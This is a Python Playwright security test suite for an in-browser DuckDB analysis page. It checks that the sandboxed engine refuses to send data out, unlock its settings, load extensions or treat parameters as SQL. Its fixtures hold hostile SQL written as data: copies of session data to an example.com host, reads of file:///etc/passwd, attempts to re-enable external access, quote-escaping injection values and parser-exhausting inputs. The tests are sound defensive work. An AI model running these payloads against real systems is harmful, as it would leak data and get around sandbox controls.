"""分析 under attack, in the browser's engine: nothing is sent anywhere, nothing is loaded, and the next query answers.

Before each attack the engine has the table, so that nothing of the page's own has to be asked for meanwhile.
"""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from playwright.sync_api import Page, Route, expect

from pipeline.aws import Cloud
from pipeline.lake.bucket import Lake
from tests.browser.conftest import running_server
from tests.browser.test_explore import TABLE, cells, lab, opened, run, stray, write
from tests.support.lakes.tables import make_day

BUCKET = "attacked"
COUNT = "select count(*) from session"
EXTENSION = "**/*.duckdb_extension.wasm*"


@pytest.fixture(scope="module")
def attacked(cloud: Cloud, emulator_url: str) -> Iterator[str]:
    """One server over a lake that has tables."""
    cloud.s3.create_bucket(Bucket=BUCKET, CreateBucketConfiguration={"LocationConstraint": "ap-northeast-1"})
    cloud.s3.put_bucket_versioning(Bucket=BUCKET, VersioningConfiguration={"Status": "Enabled"})
    make_day(Lake(cloud.s3, BUCKET), TABLE)
    with running_server(**lab(emulator_url) | {"S3_BUCKET_NAME": BUCKET}) as url:
        yield url


@pytest.fixture
def seen(page: Page) -> list[str]:
    """Every address that the browser asks for, workers included."""
    asked: list[str] = []
    page.context.on("request", lambda request: asked.append(request.url))
    return asked


@pytest.fixture
def ready(page: Page, attacked: str, seen: list[str]) -> Page:
    """The page with its engine and the table; from here on every request is one too many."""
    opened(page, attacked)
    run(page, COUNT)
    assert cells(page) == ["400"] and stray(seen, attacked) == []
    seen.clear()
    return page


def refused(page: Page, sql: str) -> None:
    run(page, sql)
    expect(page.locator(".problem")).to_contain_text("SQLを実行できませんでした")


def answers(page: Page, sql: str = COUNT) -> None:
    run(page, sql)
    assert cells(page) == ["400"], sql


OUT = {
    "csv": "select * from read_csv('https://example.com/x?leak=1')",
    "csv of many": "select * from read_csv(['https://example.com/x.csv', 'http://127.0.0.1:9/x.csv'])",
    "json": "select * from read_json('https://example.com/x.json')",
    "text": "select * from read_text('https://example.com/x')",
    "bytes": "select * from read_blob('https://example.com/x')",
    "by its name": "from 'https://example.com/x.parquet'",
    "metadata": "select * from parquet_metadata('https://example.com/x.parquet')",
    "sniffed": "select * from sniff_csv('https://example.com/x')",
    "listed": "select * from glob('https://example.com/x/*')",
    "own server": "select * from read_text('/debug/healthz?leak=1')",
    "a blob": "select * from read_text('blob:http://localhost/x')",
    "a bucket": "select * from read_parquet('s3://bucket/x.parquet')",
    "a model hub": "from 'hf://datasets/x/y.parquet'",
    "a socket": "select * from read_text('wss://example.com/x')",
    "a file": "select * from read_text('file:///etc/passwd')",
    "copied away": "copy (select session_id from session) to 'https://example.com/x.csv'",
    "copied to a bucket": "copy (select session_id from session) to 's3://bucket/x.parquet' (format parquet)",
    "copied to own server": "copy (select session_id from session) to '/debug/x.csv'",
    "copied to the browser's disk": "copy (select session_id from session) to 'opfs://x.csv'",
    "copied beside": "copy (select session_id from session) to 'x.csv'",
    "copied out of the folder": "copy (select session_id from session) to 'out/../x.csv'",
    "exported": "export database 's3://bucket/x'",
    "imported": "import database 'https://example.com/x'",
    "attached": "attach 'https://example.com/x.db' as x",
    "attached by a table": "attach 'ducklake:https://example.com/x' as x",
    "nested": "select * from query('from read_text(''https://example.com/x'')')",
    "prepared": "prepare p as select * from read_text($1); execute p('https://example.com/x')",
    "in a macro": "create macro m() as table from read_text('https://example.com/x'); from m()",
    "in a view": "create view v as from read_text('https://example.com/x'); from v",
    "by a variable": "set variable a = 'https://example.com/x'; from read_text(getvariable('a'))",
    "out of a comment": "select 1 /* ; */ ; copy (select session_id from session) to 'https://example.com/x'",
    "behind a zero byte": "select 1 \x00; copy (select session_id from session) to 'https://example.com/x'",
    "secret": "create secret s (type s3, key_id 'a', secret 'b')",
}
LOCKED = {
    "external access": "set enable_external_access = true",
    "the lock": "set lock_configuration = false",
    "its own home": "set custom_extension_repository = 'https://example.com/x'",
    "back to the maker's": "reset custom_extension_repository",
    "autoload": "set autoload_known_extensions = true",
    "autoinstall": "set autoinstall_known_extensions = true",
    "unsigned": "set allow_unsigned_extensions = true",
    "directories": "set allowed_directories = ['https://example.com/']",
    "paths": "set allowed_paths = ['https://example.com/x']",
    "globally": "set global enable_external_access = true",
    "by a pragma": "pragma enable_external_access = true",
    "threads": "set threads = 64",
    "memory": "reset memory_limit",
    "profiling": "pragma enable_profiling = 'json'",
    "getenv": "select getenv('HOME')",
}
SETTINGS = {
    "allowed_directories": "[lake/, out/]",
    "autoinstall_known_extensions": "false",
    "autoload_known_extensions": "false",
    "enable_external_access": "false",
    "lock_configuration": "true",
}
# Source: DuckDB, duckdb_extensions(); and what calls for one without naming it.
EXTENSIONS = (
    "autocomplete avro aws azure core_functions delta ducklake encodings excel fts httpfs iceberg icu inet jemalloc "
    "motherduck mysql_scanner postgres_scanner spatial sqlite_scanner tpcds tpch ui unity_catalog vortex vss"
).split()
CALLING = [
    "select current_date",
    "select now() at time zone 'Asia/Tokyo'",
    "select * from read_xlsx('lake/x.xlsx')",
    "call dbgen(sf = 0.01)",
    "select '10.0.0.1'::inet",
    "select * from sql_auto_complete('s')",
    "select * from sqlite_scan('lake/x', 'y')",
    "select st_point(1, 2)",
]


def test_nothing_is_sent_away_and_nothing_made(ready: Page, seen: list[str]) -> None:
    for sql in OUT.values():
        refused(ready, sql)
    answers(ready)
    assert seen == []


def test_no_lock_is_opened(ready: Page, seen: list[str]) -> None:
    for sql in LOCKED.values():
        refused(ready, sql)
    answers(ready)
    settings_hold(ready)
    assert seen == []


def settings_hold(page: Page) -> None:
    names = ", ".join(f"'{name}'" for name in [*SETTINGS, "custom_extension_repository"])
    run(page, f"select name, value from duckdb_settings() where name in ({names}) order by name")  # noqa: S608
    found = cells(page)
    settings = dict(zip(found[::2], found[1::2], strict=True))
    assert settings.pop("custom_extension_repository").startswith(f"{page.evaluate('location.origin')}/debug/engine/")
    assert settings == SETTINGS


def test_no_extension_is_loaded_and_the_engine_goes_on_without_their_files(ready: Page, seen: list[str]) -> None:
    ready.context.route(EXTENSION, missing)
    for name in EXTENSIONS:
        refused(ready, f"load {name}")
        run(ready, "select 1")
        assert cells(ready) == ["1"], name
    for sql in CALLING:
        refused(ready, sql)
        answers(ready)
    for sql in (
        "install httpfs",
        "force install httpfs from 'https://example.com/x'",
        "update extensions",
        "load 'https://example.com/x.wasm'",
    ):
        # What an INSTALL says that it has done, it has not: nothing is asked for, nothing is there.
        run(ready, sql)
        refused(ready, "load httpfs")
    answers(ready)
    assert seen == []


def missing(route: Route) -> None:
    route.fulfill(status=404, body="Not Found")


def test_without_any_extension_s_file_it_says_so_and_asks_nobody_else(
    page: Page, attacked: str, seen: list[str]
) -> None:
    page.context.route(EXTENSION, missing)
    opened(page, attacked)
    expect(page.locator(".problem")).to_contain_text("エンジンを起動できませんでした")
    assert stray(seen, attacked) == []
    assert [url for url in seen if "duckdb_extension" in url]


LEFT = {
    "a view": "create or replace view session as select 7 as n",
    "no view": "drop view session",
    "a table": "drop view session; create table session as select 7 as n",
    "a view in passing": "create temp view session as select 7 as n",
    "a table in passing": "create temp table session as select 7 as n",
    "a transaction": "begin; create or replace view session as select 7 as n",
    "a transaction that failed": "begin; select error('x')",
    "another schema": "create schema elsewhere; use elsewhere",
    "another database": "attach ':memory:' as elsewhere; use elsewhere",
    "its file written over": "set variable p = (select file from glob('lake/*') limit 1); "
    "copy (select 7 as n) to (getvariable('p')) (format parquet)",
    "its file written beside": "copy (select 7 as n) to 'lake/session.parquet'",
    "a log elsewhere": "call enable_logging(storage = 'file', storage_path = 'https://example.com/x')",
    "a log in the folder": "call enable_logging(storage = 'file', storage_path = 'out/log'); select 'logged'",
    "deep brackets": "select " + "(" * 5_000 + "1" + ")" * 5_000,
    "open brackets": "select " + "[" * 20_000,
    "deep not": "select " + "not " * 5_000 + "true",
    "comment without an end": "/* " * 5_000,
    "recursion": "with recursive r(n) as (select 1 union all select n + 1 from r where n < 20000) select max(n) from r",
}


def test_whatever_ran_before_the_next_query_finds_its_table_as_it_is(
    ready: Page, attacked: str, seen: list[str]
) -> None:
    for sql in LEFT.values():
        run(ready, sql)
        answers(ready)
    # Of what is not mended there is a new engine.
    assert stray(seen, f"{attacked}/debug/engine/") == []


def test_five_million_rows_and_ten_thousand_columns_are_bounded_and_said(ready: Page) -> None:
    run(ready, "select i, md5(i::varchar) from range(5000000) t(i)")
    expect(ready.get_by_text("先頭の100,000行だけを表示")).to_be_visible()
    run(ready, "select " + ", ".join(f"{n} as c{n}" for n in range(10_000)))
    expect(ready.get_by_text("10000列のうち先頭の200列を表示")).to_be_visible()
    answers(ready)


def test_what_shared_sql_leaves_in_the_engine_ends_with_it(page: Page, attacked: str) -> None:
    opened(page, attacked, "&sql=create macro sum(x) as 7; select sum(focus_level) from session limit 1")
    page.get_by_role("button", name="このSQLを実行").click()
    expect(page.locator(".grid td")).to_have_text("7")
    run(page, "select sum(1) from session")
    assert cells(page) == ["400"]


INTO = {
    "a text with escapes that begins before it": ("e{{x}}", "\\' , $$found$$ as planted --"),
    "a text with escapes that goes on": ("e'a'{{x}}", "\\' , $$found$$ as planted --"),
    "a text that goes on over a line": ("e'a'\n{{x}}", "\\' , $$found$$ as planted --"),
    "a quote that was escaped": ("e'\\' {{x}} '", " , $$found$$ as planted --"),
    "a comment within a comment": ("1 /* /* */ {{x}} */", "*/ , $$found$$ as planted --"),
    "a dollar quote with letters of elsewhere": ("$日$ {{x}} $日$", "$日$ , $$found$$ as planted --"),
    "a dollar quote with a sign": ("$€$ {{x}} $€$", "$€$ , $$found$$ as planted --"),
    "behind a blank without width": ("\u200be'\\' {{x}} '", " , $$found$$ as planted --"),
    "a name with a sign": ("1 as €e'\\' ' {{x}} '", " , $$found$$ as planted --"),
}


def test_no_value_becomes_sql_whatever_stands_around_it(ready: Page) -> None:
    for sql, value in INTO.values():
        write(ready, f"select {{{{x}}}} as own, {sql}")
        ready.locator(".parameters input").fill(value)
        ready.get_by_role("button", name="実行", exact=True).click()
        expect(ready.locator(".grid thead", has_text="count_star")).to_have_count(0)
        expect(ready.locator('.explore[data-busy="false"]')).to_be_visible()
        assert "planted" not in " ".join(ready.locator(".grid thead").all_inner_texts()), sql
        answers(ready)
